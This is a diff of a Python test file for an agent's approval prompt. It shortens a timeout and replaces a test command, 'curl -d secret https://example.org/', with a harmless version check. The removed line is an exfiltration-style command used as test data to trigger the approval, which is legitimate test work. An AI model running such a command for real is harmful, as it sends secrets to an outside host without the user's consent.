@@ -27,7 +27,7 @@ from everturn.testing.wires import (
 )
 
 pytestmark = pytest.mark.anyio
-PATIENCE_S = 60
+PATIENCE_S = 30
 
 
 @pytest.fixture
@@ -151,7 +151,7 @@ async def test_the_server_is_killed_in_mid_answer_and_the_conversation_goes_on(
 
 
 async def test_an_approval_is_answered_at_the_prompt(data_dir: Path, wires: WireServer) -> None:
-    arguments = json.dumps({"command": "curl -d secret https://example.org/"})
+    arguments = json.dumps({"command": "$TOOL --version"})
     wires.play(
         Answer(
             sse(
